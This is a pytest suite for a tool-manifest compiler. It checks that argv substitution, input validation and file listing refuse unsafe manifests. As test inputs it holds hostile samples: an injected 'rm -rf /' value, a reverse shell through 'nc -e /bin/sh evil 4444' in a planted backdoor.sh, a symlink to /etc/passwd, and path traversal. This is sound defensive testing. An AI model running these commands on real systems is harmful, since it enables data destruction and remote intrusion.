"""Tool manifests: strict compile and parse, inputs only as whole argv elements, files as signed."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sealgate.canonical import canonical_bytes
from sealgate.digest import read_artifact
from sealgate.errors import MalformedInputError
from sealgate.tools.manifest import (
    COMPILED_NAME,
    SOURCE_NAME,
    ToolManifest,
    compile_manifest_yaml,
    compile_tool_dir,
    manifest_from_artifact,
    validate_inputs,
)

HELLO = b"""
name: acme/hello
version: 1.0.0
description: Greets someone.
command: ["/usr/bin/python3", "{tool}/hello.py", "--name", "{input:who}", "{input:loud}"]
inputs:
  type: object
  properties:
    who: {type: string, maxLength: 64, pattern: "[A-Za-z ]+"}
    loud: {type: boolean}
    times: {type: integer, minimum: 1, maximum: 3}
  required: [who]
env: [LANG, {name: API_TOKEN, from: ACME_TOKEN, secret: true}]
files: [hello.py]
resources: {wall_seconds: 5, memory_mib: 128}
network: none
filesystem: {read: [/srv/data], write: []}
"""


def manifest(text: bytes = HELLO) -> ToolManifest:
    return ToolManifest.from_json_bytes(compile_manifest_yaml(text))


def tool_dir(tmp_path: Path, text: bytes = HELLO) -> Path:
    d = tmp_path / "hello"
    d.mkdir()
    (d / SOURCE_NAME).write_bytes(text)
    (d / "hello.py").write_text("print('hello')\n")
    return d


def test_compiled_manifest_is_canonical_and_parsed_back() -> None:
    compiled = compile_manifest_yaml(HELLO)
    m = ToolManifest.from_json_bytes(compiled)
    assert canonical_bytes(json.loads(compiled)) == compiled
    assert m.name == "acme/hello" and m.resources.wall_seconds == 5 and m.resources.cpu_seconds == 30
    assert m.env[1].source == "ACME_TOKEN" and m.env[1].secret
    assert m.required_inputs == {"who"}


def test_inputs_are_substituted_as_whole_argv_elements_only() -> None:
    m = manifest()
    values = validate_inputs(m, {"who": "Ada Lovelace", "loud": True})
    assert m.render_argv(values) == ["/usr/bin/python3", "/tool/hello.py", "--name", "Ada Lovelace", "true"]
    assert m.render_argv(validate_inputs(m, {"who": "Bob"})) == [
        "/usr/bin/python3", "/tool/hello.py", "--name", "Bob",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("values", "problem"),
    [
        ({}, "missing required"),
        ({"who": "Ada", "extra": "x"}, "unknown input"),
        ({"who": "Ada; rm -rf /"}, "pattern"),
        ({"who": "A" * 65}, "characters long"),
        ({"who": "Ada", "loud": "yes"}, "true or false"),
        ({"who": "Ada", "times": 9}, "out of range"),
        ({"who": "Ada", "times": True}, "integer"),
    ],
)
def test_ill_typed_or_unknown_inputs_refused(values: dict[str, object], problem: str) -> None:
    with pytest.raises(MalformedInputError, match=problem):
        validate_inputs(manifest(), values)


@pytest.mark.parametrize(
    ("edit", "field"),
    [
        (b'command: ["{input:who}"]', "command"),  # program from an input
        (b'command: ["/bin/echo", "--name={input:who}"]', "command"),  # spliced into a string
        (b'command: ["/bin/echo", "{input:nobody}"]', "undeclared input"),
        (b'shell: true\ncommand: "echo {input:who}"', "shell command"),
        (b"resources: {wall_seconds: 600}", "resources.wall_seconds"),
        (b"resources: {memory_mib: 4096}", "resources.memory_mib"),
        (b"network: everywhere", "network"),
        (b'network: {allow: ["169.254.169.254/x"]}', "network.allow"),
        (b"network: {allow: [169.254.169.254]}", "is an address"),
        (b"network: {allow: [api.example.com, 10.1]}", "network.allow[1]"),
        (b"network: {allow: [api.example.com]}\nresources: {memory_mib: 16}", "resources.memory_mib"),
        (b'filesystem: {read: ["../etc"]}', "filesystem.read"),
        (b'files: ["../outside"]', "files"),
        (b"image: ubuntu:latest", "image"),
        (b"colour: blue", "unknown field"),
        (b'env: ["ld_preload"]', "env"),
    ],
)
def test_malformed_manifest_refused_with_field_named(edit: bytes, field: str) -> None:
    base = b"name: acme/x\nversion: '1'\ndescription: d\ncommand: [\"/bin/true\"]\n"
    text = (
        base + edit
        if not edit.startswith((b"command", b"shell"))
        else base.replace(b'command: ["/bin/true"]\n', b"")
        + edit
        + b"\ninputs: {type: object, properties: {who: {type: string}}}\n"
    )
    with pytest.raises(MalformedInputError, match=field.replace("[", r"\[").replace(".", r"\.")):
        compile_manifest_yaml(text)


def test_yaml_syntax_error_names_the_line() -> None:
    with pytest.raises(MalformedInputError, match="line 2"):
        compile_manifest_yaml(b"name: acme/x\ncommand: [unclosed\n")


def test_non_canonical_compiled_manifest_refused() -> None:
    compiled = compile_manifest_yaml(HELLO)
    pretty = json.dumps(json.loads(compiled), indent=2).encode()
    with pytest.raises(MalformedInputError, match="canonical"):
        ToolManifest.from_json_bytes(pretty)


def test_compile_tool_dir_writes_manifest_and_digest_covers_it(tmp_path: Path) -> None:
    d = tool_dir(tmp_path)
    m = compile_tool_dir(d)
    art = read_artifact(d)
    assert COMPILED_NAME in art.files and manifest_from_artifact(art) == m
    # Editing the compiled manifest changes the artifact's digest: it is covered by the signatures.
    before = art.digest
    (d / COMPILED_NAME).write_bytes((d / COMPILED_NAME).read_bytes().replace(b"/usr/bin/python3", b"/usr/bin/python4"))
    assert read_artifact(d).digest != before


def test_unlisted_or_missing_shipped_files_refused(tmp_path: Path) -> None:
    d = tool_dir(tmp_path)
    (d / "backdoor.sh").write_text("nc -e /bin/sh evil 4444\n")
    with pytest.raises(MalformedInputError, match="unlisted"):
        compile_tool_dir(d)
    (d / "backdoor.sh").unlink()
    (d / "hello.py").unlink()
    with pytest.raises(MalformedInputError, match="missing"):
        compile_tool_dir(d)


def test_symlinked_shipped_file_refused(tmp_path: Path) -> None:
    d = tool_dir(tmp_path)
    (d / "hello.py").unlink()
    os.symlink("/etc/passwd", d / "hello.py")
    with pytest.raises(MalformedInputError):
        compile_tool_dir(d)


@given(st.dictionaries(st.text(max_size=8), st.one_of(st.text(max_size=8), st.integers(), st.booleans()), max_size=4))
def test_input_validation_refuses_cleanly_or_returns_only_declared_typed_inputs(values: dict[str, object]) -> None:
    m = manifest()
    try:
        out = validate_inputs(m, values)
    except MalformedInputError:
        return
    assert m.required_inputs <= set(out) <= set(m.inputs)
    assert all(type(v) is {"string": str, "integer": int, "boolean": bool}[m.inputs[k]["type"]] for k, v in out.items())
